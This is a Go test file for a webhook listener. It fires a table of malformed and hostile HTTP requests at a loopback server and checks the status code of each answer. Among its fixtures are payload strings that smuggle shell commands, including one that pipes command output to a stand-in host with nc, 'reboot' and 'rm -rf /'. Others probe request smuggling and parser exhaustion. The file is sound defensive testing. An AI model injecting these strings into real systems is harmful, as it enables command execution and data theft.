package listener

// The hostile-input table: malformed and malicious requests, sent as raw
// bytes over a real socket to a Listener serving with short timeouts, each
// with the answer it must get. Afterwards the listener still serves, only
// the deliveries that deserved it are stored, and the goroutines and open
// files of the process are back where they were.

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/hmac"
	"crypto/sha512"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/webhookd/webhookd/store"
	"github.com/webhookd/webhookd/tmpl"
)

// Short timeouts, so that slow clients are cut off quickly.
const (
	hxHeaderTimeout = 300 * time.Millisecond
	hxReadTimeout   = time.Second
	hxMaxBody       = 4096
	hxTokenSecret   = "tok-s3cret-value"
	hxHMACSecret    = "hmac-s3cret-value"
)

// hxServer is a Listener on a loopback socket over a real store.
type hxServer struct {
	t    *testing.T
	l    *Listener
	st   *store.Store
	addr string
}

func startHostileServer(t *testing.T) *hxServer {
	t.Helper()
	st, err := store.Open(filepath.Join(t.TempDir(), "h.db"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	when, err := tmpl.Compile(`event == "push" && payload.ref == "refs/heads/main"`)
	if err != nil {
		t.Fatal(err)
	}
	key := tmpl.MustParse("key", "{{ .payload.repository.full_name }}")
	// Plan as the scheduler's config does: when, then key.
	plan := func(d *tmpl.Data) []store.NewJob {
		nj := store.NewJob{Action: "deploy", Concurrency: 1}
		ok, err := when.Eval(d)
		switch {
		case err != nil:
			nj.Skip = err.Error()
		case !ok:
			nj.Skip = when.Explain(d)
		default:
			k, err := key.Execute(d)
			if err != nil {
				nj.Fail = "key: " + err.Error()
			}
			nj.Key = k
		}
		return []store.NewJob{nj}
	}
	gh, _ := NewProvider(ProviderConfig{Name: "github", Secrets: [][]byte{[]byte(ghSecret)}})
	tok, _ := NewProvider(ProviderConfig{Name: "token", Secrets: [][]byte{[]byte(hxTokenSecret)}, Header: "X-Token"})
	qtok, _ := NewProvider(ProviderConfig{Name: "token", Secrets: [][]byte{[]byte(hxTokenSecret)}})
	hm, err := NewProvider(ProviderConfig{Name: "hmac", Secrets: [][]byte{[]byte(hxHMACSecret)}, Header: "X-Sig",
		Algorithm: "sha512", Encoding: "base64", Prefix: "v1=", DeliveryHeader: "X-Delivery"})
	if err != nil {
		t.Fatal(err)
	}
	cfg := &Config{Hooks: []*Hook{
		{ID: "site", Path: "/hooks/site", Provider: gh, Events: map[string]bool{"push": true}, MaxBody: hxMaxBody, Plan: plan},
		{ID: "tok", Path: "/hooks/tok", Provider: tok, MaxBody: hxMaxBody, Plan: plan},
		{ID: "q", Path: "/hooks/q", Provider: qtok, MaxBody: hxMaxBody, Plan: plan},
		{ID: "hm", Path: "/hooks/hm", Provider: hm, MaxBody: hxMaxBody, Plan: plan},
		{ID: "big", Path: "/hooks/big", Provider: gh, MaxBody: 1 << 20, Plan: plan},
		{ID: "ips", Path: "/hooks/ips", Provider: gh, MaxBody: hxMaxBody, Plan: plan,
			AllowIPs: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")}},
	}}
	l := New(Options{
		Addr: "127.0.0.1:0", Store: st, Logger: testLogger(t),
		ReadHeaderTimeout: hxHeaderTimeout, ReadTimeout: hxReadTimeout,
		WriteTimeout: 2 * time.Second, IdleTimeout: time.Second,
	}, cfg)
	if err := l.Open(); err != nil {
		t.Fatal(err)
	}
	served := make(chan error, 1)
	go func() { served <- l.Serve() }()
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		if err := l.Shutdown(ctx); err != nil {
			t.Errorf("shutdown: %v", err)
		}
		if err := <-served; err != nil {
			t.Errorf("serve: %v", err)
		}
		if err := st.Check(); err != nil {
			t.Errorf("consistency check: %v", err)
		}
		st.Close()
	})
	return &hxServer{t: t, l: l, st: st, addr: l.Addr().String()}
}

// hxAnswer is what came back on a connection: Status 0 means the server
// closed it without an answer.
type hxAnswer struct {
	Status int
	Header http.Header
	Body   string
}

// exchange dials the server, lets send write the request, and reads one
// answer.
func (s *hxServer) exchange(send func(c net.Conn) error) (hxAnswer, error) {
	c, err := net.Dial("tcp", s.addr)
	if err != nil {
		return hxAnswer{}, err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	if err := send(c); err != nil && !isClosedConn(err) {
		return hxAnswer{}, fmt.Errorf("send: %w", err)
	}
	res, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		if isClosedConn(err) || errors.Is(err, io.ErrUnexpectedEOF) {
			return hxAnswer{}, nil
		}
		return hxAnswer{}, fmt.Errorf("read answer: %w", err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return hxAnswer{Status: res.StatusCode, Header: res.Header, Body: string(b)}, nil
}

func isClosedConn(err error) bool {
	var ne net.Error
	return errors.Is(err, io.EOF) || errors.Is(err, net.ErrClosed) || errors.Is(err, os.ErrDeadlineExceeded) ||
		strings.Contains(err.Error(), "connection reset") || strings.Contains(err.Error(), "broken pipe") ||
		(errors.As(err, &ne) && ne.Timeout())
}

// hxReq builds a raw HTTP/1.1 request. Host and Content-Length are added
// unless headers set them (or "-Host" / "-Content-Length" drop them).
func hxReq(method, target string, headers []string, body []byte) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\n", method, target)
	has := func(name string) bool {
		for _, h := range headers {
			if strings.EqualFold(strings.TrimPrefix(strings.SplitN(h, ":", 2)[0], "-"), name) {
				return true
			}
		}
		return false
	}
	if !has("Host") {
		b.WriteString("Host: hooks.example\r\n")
	}
	if !has("Content-Length") && !has("Transfer-Encoding") {
		fmt.Fprintf(&b, "Content-Length: %d\r\n", len(body))
	}
	for _, h := range headers {
		if strings.HasPrefix(h, "-") {
			continue
		}
		b.WriteString(h + "\r\n")
	}
	b.WriteString("Connection: close\r\n\r\n")
	b.Write(body)
	return b.Bytes()
}

// ghReq is a GitHub delivery signed with ghSecret (or with sig, if given).
func ghReq(target, event, delivery string, body []byte, extra ...string) []byte {
	h := []string{"Content-Type: application/json", "X-GitHub-Event: " + event, "X-Hub-Signature-256: " + sign(body)}
	if delivery != "" {
		h = append(h, "X-GitHub-Delivery: "+delivery)
	}
	return hxReq("POST", target, append(h, extra...), body)
}

// ghUnsigned is a GitHub-looking delivery with the signature header given.
func ghUnsigned(body []byte, sigHeaders ...string) []byte {
	h := append([]string{"Content-Type: application/json", "X-GitHub-Event: push", "X-GitHub-Delivery: u-" + strconv.Itoa(len(sigHeaders))}, sigHeaders...)
	return hxReq("POST", "/hooks/site", h, body)
}

// ghReqHead is a signed GitHub delivery whose request line and headers
// (up to and including the blank line that ends them) are exactly n bytes,
// padded with an X-Pad header.
func ghReqHead(delivery string, body []byte, n int) []byte {
	pad := func(k int) []byte {
		return ghReq("/hooks/site", "push", delivery, body, "X-Pad: "+strings.Repeat("p", k))
	}
	head := func(b []byte) int { return bytes.Index(b, []byte("\r\n\r\n")) + 4 }
	return pad(n - head(pad(0)))
}

func hmSig(body []byte) string {
	m := hmac.New(sha512.New, []byte(hxHMACSecret))
	m.Write(body)
	return "v1=" + base64.StdEncoding.EncodeToString(m.Sum(nil))
}

func chunked(body []byte, size int) []byte {
	var b bytes.Buffer
	for len(body) > 0 {
		n := min(size, len(body))
		fmt.Fprintf(&b, "%x\r\n", n)
		b.Write(body[:n])
		b.WriteString("\r\n")
		body = body[n:]
	}
	b.WriteString("0\r\n\r\n")
	return b.Bytes()
}

func push(ref string) []byte {
	return []byte(fmt.Sprintf(`{"ref":%q,"after":"c0ffee","repository":{"full_name":"o/r"}}`, ref))
}

func gzipped(b []byte) []byte {
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

// write returns a send function that writes b at once.
func sendAll(b []byte) func(net.Conn) error {
	return func(c net.Conn) error {
		_, err := c.Write(b)
		return err
	}
}

// trickle writes head at once, then rest a byte at a time, every gap.
func trickle(head, rest []byte, gap time.Duration) func(net.Conn) error {
	return func(c net.Conn) error {
		if _, err := c.Write(head); err != nil {
			return err
		}
		for i := range rest {
			time.Sleep(gap)
			if _, err := c.Write(rest[i : i+1]); err != nil {
				return err
			}
		}
		return nil
	}
}

// countFDs counts the process's open file descriptors.
func countFDs(t *testing.T) int {
	t.Helper()
	ents, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		t.Skipf("cannot count open files: %v", err)
	}
	return len(ents)
}

// settle waits until the goroutines and open files are back to at most
// their baseline, and reports them when they do not come back.
func settle(t *testing.T, goroutines, fds int) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for {
		g, f := runtime.NumGoroutine(), countFDs(t)
		if g <= goroutines && f <= fds {
			t.Logf("after the table: %d goroutines (baseline %d), %d open files (baseline %d)", g, goroutines, f, fds)
			return
		}
		if time.Now().After(deadline) {
			buf := make([]byte, 1<<20)
			buf = buf[:runtime.Stack(buf, true)]
			t.Fatalf("after the table: %d goroutines (baseline %d), %d open files (baseline %d); want back to baseline\n%s", g, goroutines, f, fds, buf)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func TestListener_HostileInput(t *testing.T) {
	s := startHostileServer(t)
	// Warm up once so that lazily started runtime goroutines are in the
	// baseline, then take it.
	if a, err := s.exchange(sendAll(ghReq("/hooks/site", "push", "warm-up", push("refs/heads/main")))); err != nil || a.Status != 202 {
		t.Fatalf("warm-up delivery = %d %v", a.Status, err)
	}
	time.Sleep(100 * time.Millisecond)
	baseG, baseF := runtime.NumGoroutine(), countFDs(t)
	before, err := s.st.Stats()
	if err != nil {
		t.Fatal(err)
	}

	main := push("refs/heads/main")
	exact := append(append([]byte(`{"ref":"refs/heads/main","pad":"`), bytes.Repeat([]byte("a"), hxMaxBody-len(`{"ref":"refs/heads/main","pad":""}`))...), `"}`...)
	over := append(bytes.Repeat([]byte(" "), 1), exact...) // one byte over the limit
	nested := []byte(strings.Repeat("[", 2000) + strings.Repeat("]", 2000))
	nestedObj := []byte(`{"ref":"refs/heads/main","x":` + strings.Repeat(`{"a":`, 600) + "1" + strings.Repeat("}", 600) + "}")
	bigNums := []byte(`{"ref":"refs/heads/main","n":1e999999,"m":-123456789012345678901234567890123456789,"f":0.` + strings.Repeat("9", 1000) + `}`)
	bigKey := []byte(`{"ref":"refs/heads/main","repository":{"full_name":"` + strings.Repeat("k", 40000) + `"}}`)
	badUTF8 := []byte("{\"ref\":\"refs/heads/main\",\"name\":\"\xff\xfe\xc3\x28\xed\xa0\x80\",\"repository\":{\"full_name\":\"\xf0\x28\x8c\x28\"}}")
	nul := []byte(`{"ref":"refs/heads/main\u0000","repository":{"full_name":"o/r\u0000; rm -rf /"}}`)
	shellish := []byte(`{"ref":"refs/heads/main","after":"$(touch /tmp/pwned); ` + "`id`" + ` | nc evil 1 && echo ${IFS}","repository":{"full_name":"'; reboot #"}}`)
	tmplish := []byte(`{"ref":"refs/heads/main","after":"{{ env \"HOME\" }}","repository":{"full_name":"{{ .secret }}"}}`)
	dupKeys := []byte(`{"ref":"refs/heads/dev","ref":"refs/heads/main","repository":{"full_name":"o/r"}}`)
	bom := append([]byte("\xef\xbb\xbf"), main...)
	manyFields := []byte(strings.Repeat("a=1&", 1000) + "ref=refs/heads/main")
	slowHead := hxReq("POST", "/hooks/site", []string{"X-GitHub-Event: push"}, main)
	slowBody := ghReq("/hooks/site", "push", "slow-body", main)
	bodyAt := bytes.Index(slowBody, []byte("\r\n\r\n")) + 4
	longDelivery := strings.Repeat("d", 40000)
	ghSig := sign(main)

	tests := []struct {
		name   string
		send   func(net.Conn) error
		status int               // 0: closed without an answer
		or     int               // another acceptable status (a race of timers)
		header map[string]string // answer headers that must be set
		stored bool              // a new event is stored
	}{
		// Every method but POST.
		{name: "GET", send: sendAll(hxReq("GET", "/hooks/site", nil, nil)), status: 405, header: map[string]string{"Allow": "POST"}},
		{name: "HEAD", send: sendAll(hxReq("HEAD", "/hooks/site", nil, nil)), status: 405, header: map[string]string{"Allow": "POST"}},
		{name: "PUT signed", send: sendAll(bytes.Replace(ghReq("/hooks/site", "push", "m-put", main), []byte("POST"), []byte("PUT"), 1)), status: 405},
		{name: "PATCH", send: sendAll(hxReq("PATCH", "/hooks/site", nil, main)), status: 405},
		{name: "DELETE", send: sendAll(hxReq("DELETE", "/hooks/site", nil, nil)), status: 405},
		{name: "OPTIONS", send: sendAll(hxReq("OPTIONS", "/hooks/site", nil, nil)), status: 405},
		{name: "OPTIONS *", send: sendAll(hxReq("OPTIONS", "*", nil, nil)), status: 200},
		{name: "TRACE", send: sendAll(hxReq("TRACE", "/hooks/site", []string{"X-Hub-Signature-256: " + ghSig}, nil)), status: 405},
		{name: "CONNECT", send: sendAll(hxReq("CONNECT", "/hooks/site", nil, nil)), status: 405},
		{name: "PROPFIND", send: sendAll(hxReq("PROPFIND", "/hooks/site", nil, nil)), status: 405},
		{name: "lower-case post", send: sendAll(bytes.Replace(ghReq("/hooks/site", "push", "m-lower", main), []byte("POST"), []byte("post"), 1)), status: 405},
		{name: "method with a control byte", send: sendAll(hxReq("PO\x01ST", "/hooks/site", nil, nil)), status: 400},

		// Path tricks: only the exact path is a hook.
		{name: "no such hook", send: sendAll(ghReq("/hooks/nope", "push", "p-1", main)), status: 404},
		{name: "trailing slash", send: sendAll(ghReq("/hooks/site/", "push", "p-2", main)), status: 404},
		{name: "dot-dot", send: sendAll(ghReq("/hooks/x/../site", "push", "p-3", main)), status: 404},
		{name: "double slash", send: sendAll(ghReq("//hooks/site", "push", "p-4", main)), status: 404},
		{name: "upper case", send: sendAll(ghReq("/HOOKS/SITE", "push", "p-5", main)), status: 404},
		// Routing is on the decoded path, as net/http decodes it: an encoded
		// slash reaches the hook, and the signature still decides.
		{name: "encoded slash is the same path", send: sendAll(ghReq("/hooks%2fsite", "push", "p-6", main)), status: 202, stored: true},
		{name: "encoded NUL", send: sendAll(ghReq("/hooks/site%00", "push", "p-7", main)), status: 404},
		{name: "matrix parameter", send: sendAll(ghReq("/hooks/site;x=1", "push", "p-8", main)), status: 404},
		{name: "backslash", send: sendAll(ghReq("/hooks\\site", "push", "p-9", main)), status: 404},
		{name: "bad percent escape", send: sendAll(ghReq("/hooks/site%zz", "push", "p-10", main)), status: 400},
		{name: "asterisk", send: sendAll(ghReq("*", "push", "p-11", main)), status: 404},
		{name: "8 KiB path", send: sendAll(ghReq("/hooks/"+strings.Repeat("a", 8<<10), "push", "p-12", main)), status: 404},
		{name: "percent-encoded letters are the same path", send: sendAll(hxReq("POST", "/hooks/%73ite", []string{"X-GitHub-Event: push"}, main)), status: 401},
		{name: "absolute-form target", send: sendAll(ghReq("http://evil.example/hooks/site", "push", "p-13", main)), status: 202, stored: true},

		// Oversized, repeated and invalid headers; broken framing.
		{name: "one 100 KiB header", send: sendAll(ghReq("/hooks/site", "push", "h-1", main, "X-Big: "+strings.Repeat("b", 100<<10))), status: 431},
		// The README: "headers beyond 64 KiB are refused" (request line
		// and headers together, docs/security.md).
		{name: "request line and headers of exactly 64 KiB", send: sendAll(ghReqHead("h-64", main, 64<<10)), status: 202, stored: true},
		{name: "request line and headers one byte over 64 KiB", send: sendAll(ghReqHead("h-64-1", main, 64<<10+1)), status: 431},
		{name: "7000 headers", send: sendAll(ghReq("/hooks/site", "push", "h-2", main, strings.Repeat("X-Many: m\r\n", 7000)+"X-End: e")), status: 431},
		{name: "70 KiB request line", send: sendAll(ghReq("/hooks/site?x="+strings.Repeat("q", 70<<10), "push", "h-3", main)), status: 431},
		{name: "repeated signature header", send: sendAll(ghUnsigned(main, "X-Hub-Signature-256: "+ghSig, "X-Hub-Signature-256: "+ghSig)), status: 401},
		{name: "header name with a space", send: sendAll(hxReq("POST", "/hooks/site", []string{"Bad Name: x"}, main)), status: 400},
		{name: "NUL in a header value", send: sendAll(hxReq("POST", "/hooks/site", []string{"X-GitHub-Event: pu\x00sh"}, main)), status: 400},
		{name: "obsolete line folding is joined, not a new header", send: sendAll(hxReq("POST", "/hooks/site", []string{"X-GitHub-Event: push", " X-Hub-Signature-256: " + ghSig}, main)), status: 401},
		{name: "no Host header", send: sendAll(hxReq("POST", "/hooks/site", []string{"-Host"}, main)), status: 400},
		{name: "two Host headers", send: sendAll(hxReq("POST", "/hooks/site", []string{"Host: a", "Host: b"}, main)), status: 400},
		{name: "two Content-Lengths", send: sendAll(hxReq("POST", "/hooks/site", []string{"Content-Length: 5", "Content-Length: 6"}, main)), status: 400},
		{name: "negative Content-Length", send: sendAll(hxReq("POST", "/hooks/site", []string{"Content-Length: -1"}, main)), status: 400},
		{name: "Content-Length not a number", send: sendAll(hxReq("POST", "/hooks/site", []string{"Content-Length: 1e3"}, main)), status: 400},
		{name: "unknown Transfer-Encoding", send: sendAll(hxReq("POST", "/hooks/site", []string{"Transfer-Encoding: gzip"}, main)), status: 501},
		{name: "HTTP/9.9", send: sendAll([]byte("POST /hooks/site HTTP/9.9\r\nHost: h\r\n\r\n")), status: 505},
		{name: "HTTP/2 preface in clear text", send: sendAll([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")), status: 404},
		{name: "garbage request line", send: sendAll([]byte("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 hello\r\n\r\n")), status: 400},
		{name: "bare LF line endings", send: sendAll([]byte("POST /hooks/site HTTP/1.1\nHost: h\nContent-Length: 2\n\n{}")), status: 401},

		// Slow and truncated clients.
		{name: "slow headers", send: trickle(slowHead[:20], slowHead[20:60], 50*time.Millisecond), status: 0, or: 400}, // cut off mid-line, the partial header can be answered as malformed
		{name: "headers never finished", send: sendAll(slowHead[:40]), status: 0},
		{name: "slow body", send: trickle(slowBody[:bodyAt], slowBody[bodyAt:bodyAt+10], 150*time.Millisecond), status: 400},
		{name: "truncated body", send: func(c net.Conn) error {
			if _, err := c.Write(slowBody[:len(slowBody)-5]); err != nil {
				return err
			}
			return c.(*net.TCPConn).CloseWrite()
		}, status: 400},

		// Bodies over the limit: refused before anything is verified.
		{name: "Content-Length over the limit, no body sent", send: sendAll(hxReq("POST", "/hooks/site", []string{fmt.Sprintf("Content-Length: %d", 10<<20)}, nil)), status: 413},
		{name: "expect 100-continue over the limit", send: sendAll(hxReq("POST", "/hooks/site", []string{"Expect: 100-continue", fmt.Sprintf("Content-Length: %d", 1<<30)}, nil)), status: 413},
		{name: "one byte over the limit, signed", send: sendAll(ghReq("/hooks/site", "push", "b-1", over)), status: 413},
		{name: "chunked over the limit", send: sendAll(hxReq("POST", "/hooks/site", []string{"Transfer-Encoding: chunked", "X-GitHub-Event: push"}, chunked(bytes.Repeat([]byte("z"), 3*hxMaxBody), 1000))), status: 413},
		{name: "chunked, sizes that overflow", send: sendAll(hxReq("POST", "/hooks/site", []string{"Transfer-Encoding: chunked"}, []byte("fffffffffffffffff\r\nx\r\n0\r\n\r\n"))), status: 400},
		{name: "chunked, bad size", send: sendAll(hxReq("POST", "/hooks/site", []string{"Transfer-Encoding: chunked"}, []byte("zz\r\nx\r\n0\r\n\r\n"))), status: 400},
		// Transfer-Encoding wins over Content-Length (RFC 9112 6.3): the whole
		// chunked body is read and verified, so nothing is smuggled.
		{name: "chunked and Content-Length", send: sendAll(hxReq("POST", "/hooks/site", []string{"Transfer-Encoding: chunked", "Content-Length: 3", "X-GitHub-Event: push", "X-GitHub-Delivery: b-4", "X-Hub-Signature-256: " + ghSig}, chunked(main, 7))), status: 202, stored: true},
		{name: "exactly at the limit, signed", send: sendAll(ghReq("/hooks/site", "push", "b-2", exact)), status: 202, stored: true},
		{name: "chunked within the limit, signed", send: sendAll(hxReq("POST", "/hooks/site", []string{"Transfer-Encoding: chunked", "X-GitHub-Event: push", "X-GitHub-Delivery: b-3", "X-Hub-Signature-256: " + ghSig}, chunked(main, 5))), status: 202, stored: true},

		// Garbled, truncated and replayed signatures.
		{name: "signature missing", send: sendAll(ghUnsigned(main)), status: 401},
		{name: "signature empty", send: sendAll(ghUnsigned(main, "X-Hub-Signature-256: ")), status: 401},
		{name: "signature without prefix", send: sendAll(ghUnsigned(main, "X-Hub-Signature-256: "+ghSig[7:])), status: 401},
		{name: "sha1 prefix", send: sendAll(ghUnsigned(main, "X-Hub-Signature-256: sha1="+ghSig[7:])), status: 401},
		{name: "signature truncated", send: sendAll(ghUnsigned(main, "X-Hub-Signature-256: "+ghSig[:len(ghSig)-1])), status: 401},
		{name: "signature one hex digit changed", send: sendAll(ghUnsigned(main, "X-Hub-Signature-256: "+ghSig[:len(ghSig)-1]+flipHex(ghSig[len(ghSig)-1]))), status: 401},
		{name: "signature with header whitespace", send: sendAll(ghUnsigned(main, "X-Hub-Signature-256: \t "+ghSig+" \t")), status: 202, stored: true},
		{name: "signature not hex", send: sendAll(ghUnsigned(main, "X-Hub-Signature-256: sha256="+strings.Repeat("zz", 32))), status: 401},
		{name: "signature 5000 bytes", send: sendAll(ghUnsigned(main, "X-Hub-Signature-256: sha256="+strings.Repeat("ab", 2500))), status: 401},
		{name: "signature doubled", send: sendAll(ghUnsigned(main, "X-Hub-Signature-256: "+ghSig+ghSig[7:])), status: 401},
		{name: "signature of another body", send: sendAll(ghUnsigned(push("refs/heads/evil"), "X-Hub-Signature-256: "+ghSig)), status: 401},
		{name: "signature with the body's trailing newline", send: sendAll(ghUnsigned(append(main, '\n'), "X-Hub-Signature-256: "+ghSig)), status: 401},
		{name: "legacy sha1 header only", send: sendAll(ghUnsigned(main, "X-Hub-Signature: sha1=0000000000000000000000000000000000000000")), status: 401},
		{name: "signed delivery", send: sendAll(ghReq("/hooks/site", "push", "r-1", main)), status: 202, stored: true},
		{name: "replayed delivery", send: sendAll(ghReq("/hooks/site", "push", "r-1", main)), status: 200},
		{name: "ignored event type", send: sendAll(ghReq("/hooks/site", "issues", "r-2", main)), status: 200},
		{name: "token wrong", send: sendAll(hxReq("POST", "/hooks/tok", []string{"X-Token: " + hxTokenSecret[:len(hxTokenSecret)-1] + "X"}, main)), status: 401},
		{name: "token prefix only", send: sendAll(hxReq("POST", "/hooks/tok", []string{"X-Token: " + hxTokenSecret[:4]}, main)), status: 401},
		{name: "token with Bearer on a plain header", send: sendAll(hxReq("POST", "/hooks/tok", []string{"X-Token: Bearer " + hxTokenSecret}, main)), status: 401},
		{name: "token repeated", send: sendAll(hxReq("POST", "/hooks/tok", []string{"X-Token: " + hxTokenSecret, "X-Token: " + hxTokenSecret}, main)), status: 401},
		{name: "token right", send: sendAll(hxReq("POST", "/hooks/tok", []string{"X-Token: " + hxTokenSecret}, main)), status: 202, stored: true},
		{name: "query token repeated", send: sendAll(hxReq("POST", "/hooks/q?token="+hxTokenSecret+"&token="+hxTokenSecret, nil, main)), status: 401},
		{name: "query token in the fragment", send: sendAll(hxReq("POST", "/hooks/q#token="+hxTokenSecret, nil, main)), status: 404},
		{name: "hmac hex where base64 is configured", send: sendAll(hxReq("POST", "/hooks/hm", []string{"X-Sig: v1=" + strings.Repeat("ab", 64)}, main)), status: 401},
		{name: "hmac signed", send: sendAll(hxReq("POST", "/hooks/hm", []string{"X-Sig: " + hmSig(main), "X-Delivery: hm-1"}, main)), status: 202, stored: true},
		{name: "hmac replayed", send: sendAll(hxReq("POST", "/hooks/hm", []string{"X-Sig: " + hmSig(main), "X-Delivery: hm-1"}, main)), status: 200},

		// Addresses: a forged X-Forwarded-For from an untrusted peer.
		{name: "forged X-Forwarded-For", send: sendAll(ghReq("/hooks/ips", "push", "ip-1", main, "X-Forwarded-For: 10.1.2.3")), status: 403},

		// Hostile payloads behind a good signature: stored, never a crash.
		{name: "invalid UTF-8", send: sendAll(ghReq("/hooks/site", "push", "x-1", badUTF8)), status: 202, stored: true},
		{name: "2000-deep array", send: sendAll(ghReq("/hooks/site", "push", "x-2", nested)), status: 202, stored: true},
		{name: "600-deep object", send: sendAll(ghReq("/hooks/site", "push", "x-3", nestedObj)), status: 202, stored: true},
		{name: "enormous numbers", send: sendAll(ghReq("/hooks/site", "push", "x-4", bigNums)), status: 202, stored: true},
		{name: "40000-byte queue key", send: sendAll(ghReq("/hooks/big", "push", "x-5", bigKey)), status: 202, stored: true},
		{name: "40000-byte delivery id", send: sendAll(ghReq("/hooks/site", "push", longDelivery, main)), status: 202, stored: true},
		{name: "40000-byte delivery id replayed", send: sendAll(ghReq("/hooks/site", "push", longDelivery, main)), status: 200},
		{name: "NUL in payload strings", send: sendAll(ghReq("/hooks/site", "push", "x-6", nul)), status: 202, stored: true},
		{name: "shell metacharacters", send: sendAll(ghReq("/hooks/site", "push", "x-7", shellish)), status: 202, stored: true},
		{name: "template syntax in the payload", send: sendAll(ghReq("/hooks/site", "push", "x-8", tmplish)), status: 202, stored: true},
		{name: "duplicate JSON keys", send: sendAll(ghReq("/hooks/site", "push", "x-9", dupKeys)), status: 202, stored: true},
		{name: "byte-order mark", send: sendAll(ghReq("/hooks/site", "push", "x-10", bom)), status: 202, stored: true},
		{name: "gzip body is not expanded", send: sendAll(ghReq("/hooks/site", "push", "x-11", gzipped(bytes.Repeat([]byte("0"), 2<<20)), "Content-Encoding: gzip")), status: 202, stored: true},
		{name: "1000 form fields", send: sendAll(ghReq("/hooks/site", "push", "x-12", manyFields, "Content-Type: application/x-www-form-urlencoded")), status: 202, stored: true},
		{name: "form with broken payload JSON", send: sendAll(ghReq("/hooks/site", "push", "x-13", []byte("payload=%7B%22ref"), "Content-Type: application/x-www-form-urlencoded")), status: 202, stored: true},
		{name: "empty body", send: sendAll(ghReq("/hooks/site", "push", "x-14", nil)), status: 202, stored: true},
	}
	if len(tests) < 50 {
		t.Fatalf("the table has %d cases; want at least 50", len(tests))
	}
	stored := 0
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			a, err := s.exchange(tc.send)
			if err != nil {
				t.Fatal(err)
			}
			if a.Status != tc.status && (tc.or == 0 || a.Status != tc.or) {
				t.Fatalf("status %d (%s); want %d", a.Status, strings.TrimSpace(a.Body), tc.status)
			}
			for k, v := range tc.header {
				if got := a.Header.Get(k); got != v {
					t.Errorf("%s = %q; want %q", k, got, v)
				}
			}
			if a.Status == 401 && (strings.Contains(a.Body, ghSig[7:]) || strings.Contains(a.Body, hxTokenSecret) || strings.Contains(a.Body, ghSecret)) {
				t.Errorf("401 answer %q shows a secret or the expected signature", a.Body)
			}
		})
		if tc.stored {
			stored++
		}
	}

	// It still serves.
	if a, err := s.exchange(sendAll(ghReq("/hooks/site", "push", "after", main))); err != nil || a.Status != 202 {
		t.Fatalf("after the table: a signed delivery = %d %v; want 202", a.Status, err)
	}
	after, err := s.st.Stats()
	if err != nil {
		t.Fatal(err)
	}
	if got, want := after.Events-before.Events, stored+1; got != want {
		t.Errorf("stored %d new events; want %d (the 2xx deliveries only)", got, want)
	}
	for _, r := range s.l.Rejections() {
		if strings.Contains(r.Reason, hxTokenSecret) || strings.Contains(r.Reason, ghSig[7:]) {
			t.Errorf("rejection %+v shows a secret", r)
		}
	}
	settle(t, baseG, baseF)
}

// flipHex returns another hex digit than c.
func flipHex(c byte) string {
	if c == '0' {
		return "1"
	}
	return "0"
}
